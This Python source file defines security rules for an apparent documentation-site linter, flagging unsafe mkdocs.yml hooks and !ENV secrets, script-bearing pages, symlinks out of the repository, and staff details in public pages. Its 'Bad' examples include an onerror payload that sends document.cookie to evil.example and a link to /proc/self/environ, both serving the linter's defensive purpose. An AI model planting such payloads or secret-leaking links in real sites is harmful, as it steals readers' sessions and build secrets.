"""What a pull request must not slip into a build: code, files from outside, people's details in public pages.

The first four come from reading the repository (walk.py, trust.py), not from a check over the playbook; their
severity cannot be lowered in journeybook.yaml, because a pull request can change that file too.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from ..findings import Finding, Location, Severity
from .base import RuleContext, documented, rule

UNSAFE_CONFIG = documented(
    "unsafe-config",
    Severity.ERROR,
    "mkdocs.yml would run code or read the build machine: hooks, Python tags, !ENV, other plugins, INHERIT or "
    "snippets outside the repository",
    """
    Why: `journeybook build` runs MkDocs with the repository's mkdocs.yml. A pull
    request that adds `hooks:`, a `!!python/...` tag, an unknown plugin or
    Markdown extension runs its own code on the build machine; `!ENV` publishes
    an environment variable (a deploy token); `INHERIT` or `pymdownx.snippets`
    reaching outside the repository publishes the machine's files. `check`
    reads mkdocs.yml without executing it and reports each of these.

    Bad:
    ```yaml
    # mkdocs.yml
    hooks: [hooks/publish.py]
    copyright: !ENV DEPLOY_TOKEN
    ```

    Good:
    ```yaml
    # mkdocs.yml
    copyright: Harbor Mutual
    plugins: [search]
    ```

    Fix: remove it from mkdocs.yml; if the repository's maintainers want it, they build with `--trust-config`.
""",
)

UNSAFE_DOCS = documented(
    "unsafe-docs",
    Severity.ERROR,
    "a hand-written page in docs/ with a script or event handler, or a docs/ file that would replace the theme's",
    """
    Why: pages in docs/ are published as they are, on the staff site and, when
    marked `audience: public`, on the customers' site. A `<script>`, an
    `onerror=` attribute or a file named like the theme's JavaScript
    (docs/assets/javascripts/bundle.*.min.js) would run on every reader's
    browser. journeybook removes such HTML from the site; the finding makes the
    pull request say so before it is merged.

    Bad:
    ```yaml
    # docs/welcome.md
    <img src=x onerror="fetch('https://evil.example/?'+document.cookie)">
    ```

    Good:
    ```yaml
    # docs/welcome.md
    ![Our office](office.png)
    ```

    Fix: write the page without scripts or event handlers; keep your files out of assets/javascripts/,
    assets/stylesheets/ and assets/journeybook/.
""",
)

SYMLINK_OUTSIDE = documented(
    "symlink-outside",
    Severity.ERROR,
    "a symbolic link in the playbook or docs/ that leads out of it",
    """
    Why: a link such as `docs/env.txt -> /proc/self/environ` or
    `policies/z.yaml -> /dev/zero` would publish the build machine's secrets or
    hang the check. journeybook never follows a link out of the folder it reads;
    the finding says which file was left out.

    Bad:
    ```yaml
    # policies/shared.yaml is a symbolic link to /etc/company/policies.yaml
    ```

    Good:
    ```yaml
    # policies/shared.yaml is a file of the repository
    ```

    Fix: put the file itself in the repository instead of a link to it.
""",
)

SKIPPED_PATH = documented(
    "skipped-path",
    Severity.ERROR,
    "a file or folder that could not be read: unreadable, a linked folder, a device or a pipe",
    """
    Why: a folder journeybook cannot read, a linked folder it does not follow or
    a file that is not a regular file would otherwise be skipped in silence, and
    a broken journey inside it would pass the check. Each one is a finding, and
    references into an unread file are not reported as unknown until it can be
    read.

    Bad:
    ```yaml
    # journeys/claims is a symbolic link to ../claims-journeys
    ```

    Good:
    ```yaml
    # journeys/claims/ is a folder of the playbook, readable by the build
    ```

    Fix: give the build read access, move a linked folder into place, or delete what is not a regular file.
""",
)

TRUST_LOAD_RULES = [UNSAFE_CONFIG, UNSAFE_DOCS, SYMLINK_OUTSIDE, SKIPPED_PATH]


@rule(
    "public-names-person",
    Severity.ERROR,
    "public content names a person from org.yaml (name, email or phone)",
    # the docstring below is the documentation
)
def public_names_person(ctx: RuleContext) -> Iterator[Finding]:
    """Why: `audience: public` questions and journeys are published to customers.
    A colleague's name, email address or phone number typed into a public
    `say`, `ask` or `confirm` puts that person's details on the open web, and
    customers then call them directly instead of the department.

    Bad:
    ```yaml
    audience: public
    say: Call Dana Lee on +1 555 0142 to arrange a return.
    ```

    Good:
    ```yaml
    audience: public
    say: Call Customer Care to arrange a return.
    ```

    Fix: name the department or channel instead of the person, or make the content `audience: staff`.
    """
    patterns = _person_patterns(ctx)
    if not patterns:
        return
    book = ctx.playbook
    for question in book.questions.values():
        if question.audience != "public":
            continue
        scope = ("question", question.id)
        texts = [(question.ask, question.src.loc("ask"))]
        texts += [(text, question.src.loc("also_asked", n)) for n, text in enumerate(question.also_asked)]
        for answer in question.answers:
            texts += [(answer.say, answer.src.loc("say")), (answer.decision, answer.src.loc("decision"))]
        yield from _scan(texts, patterns, f'public question "{question.id}"', scope)
    for journey in book.journeys.values():
        if journey.audience != "public":
            continue
        texts = [(getattr(journey, name) or "", journey.src.loc(name)) for name in ("title", "problem", "outcome")]
        for step in journey.steps:
            texts += [(step.title or "", step.src.loc("title")), (step.confirm or "", step.src.loc("confirm"))]
        yield from _scan(texts, patterns, f'public journey "{journey.id}"', ("journey", journey.id))


def _person_patterns(ctx: RuleContext) -> list[tuple[str, re.Pattern[str]]]:
    patterns = []
    for person in ctx.playbook.people.values():
        for what, value in (("name", person.name), ("email address", person.email)):
            if value and len(value.strip()) >= 3:
                words = r"\s+".join(re.escape(w) for w in value.split())
                patterns.append((f"{what} of {person.id}", re.compile(rf"(?<!\w){words}(?!\w)", re.IGNORECASE)))
        digits = re.sub(r"\D", "", person.phone or "")[-7:]  # the local number: "+1 555 0142" is typed "555 0142"
        if len(digits) >= 6:  # in any spacing: 555 0142, 555-0142, 5550142
            spaced = r"[\s().+-]*".join(digits)
            patterns.append((f"phone number of {person.id}", re.compile(rf"(?<!\d){spaced}(?!\d)")))
    return patterns


def _scan(texts, patterns, what: str, scope: tuple[str, str]) -> Iterator[Finding]:
    for text, location in texts:
        for label, pattern in patterns:
            if text and pattern.search(text):
                yield Finding(
                    "public-names-person",
                    f"{what} gives the {label}, and public pages are on the open web: name the department or "
                    "channel instead, or make the content `audience: staff`",
                    Location(location.file, location.line, location.column),
                    scope=scope,
                )
